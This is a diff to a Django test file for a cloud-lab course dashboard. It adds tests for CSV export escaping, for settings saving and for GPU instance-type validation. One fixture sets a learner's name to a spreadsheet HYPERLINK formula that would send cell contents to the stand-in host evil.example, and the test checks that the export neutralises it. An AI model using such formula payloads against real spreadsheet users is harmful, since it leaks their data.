@@ -12,6 +12,7 @@ from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
 from curriculum.models import Lesson, LessonCompletion
+from labs.cloud import pricing
 from labs.dashboard.models import CohortOperation
 from labs.models import CloudAccount, CloudResource, LabCheck
 from tests.dashboard.conftest import make_resource
@@ -185,6 +186,23 @@ def test_csv_exports_hold_progress_and_resources(instructor_client, cohort, lear
     assert [(r["learner"], r["name"], r["state"]) for r in rows] == [
         ("learner", "nb-csv", "ready")
     ]
+
+
+def test_csv_cells_that_would_run_as_spreadsheet_formulas_are_neutralised(
+    instructor_client, cohort, learner, lab_settings
+):
+    learner.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    learner.save()
+    make_resource(
+        learner, lab_settings, cloud_name="nb-formula",
+        failure_reason="-2+3 @SUM(A1)",
+    )  # fmt: skip
+    progress = instructor_client.get(f"/dashboard/{cohort.pk}/export/progress.csv")
+    (row,) = csv.DictReader(io.StringIO(progress.content.decode()))
+    assert row["name"].startswith("'=HYPERLINK")
+    resources = instructor_client.get(f"/dashboard/{cohort.pk}/export/resources.csv")
+    (row,) = csv.DictReader(io.StringIO(resources.content.decode()))
+    assert row["failure_reason"] == "'-2+3 @SUM(A1)" and row["name"] == "nb-formula"
 
 
 def test_page_query_count_is_the_same_for_10_and_500_learners(
@@ -372,8 +390,11 @@ def test_settings_save_and_record_what_changed(instructor_client, cohort, lab_se
         ({"allowed_regions": []}, "Allow at least one region"),
         ({"allowed_instance_types": ["ml.t3.medium", "ml.x99.huge"]}, "ml.x99.huge is not"),
         (
-            {"allowed_instance_types": ["ml.t3.medium", "ml.m5.large", "ml.g5.xlarge"]},
-            "ml.g5.xlarge is a GPU type",
+            {
+                "allowed_instance_types": ["ml.t3.medium", "ml.m5.large", "ml.g5.xlarge"],
+                "training_instance_type": "ml.g5.xlarge",
+            },
+            "ml.g5.xlarge is a GPU type and GPU types are off",
         ),
         ({"training_instance_type": "ml.c5.xlarge"}, "not among the allowed instance types"),
         ({"training_instance_type": "ml.t3.medium"}, "for notebooks only"),
@@ -395,6 +416,22 @@ def test_settings_refuse_bad_values_with_a_clear_sentence(
     assert message in response.content.decode()
     lab_settings.refresh_from_db()
     assert lab_settings.budget_usd == Decimal("50.00")
+
+
+def test_the_settings_page_saves_as_shown(instructor_client, cohort, lab_settings):
+    # An instructor who only changes the budget posts every other field as the page shows
+    # it, GPU types ticked in the list while GPUs are off included (the default).
+    from labs.dashboard.forms import LabSettingsForm
+
+    shown = LabSettingsForm.for_settings(lab_settings)
+    data = {name: shown[name].value() for name in LabSettingsForm.FIELDS}
+    data = {name: value for name, value in data.items() if value not in (False, None)}
+    assert any(pricing.is_gpu(name) for name in data["allowed_instance_types"])
+    data["budget_usd"] = "80"
+    response = instructor_client.post(f"/dashboard/{cohort.pk}/settings/", data)
+    assert response.status_code == 302, response.content.decode()[-2000:]
+    lab_settings.refresh_from_db()
+    assert lab_settings.budget_usd == Decimal("80") and not lab_settings.gpu_allowed
 
 
 def test_gpu_types_are_accepted_once_opted_in(instructor_client, cohort, lab_settings):
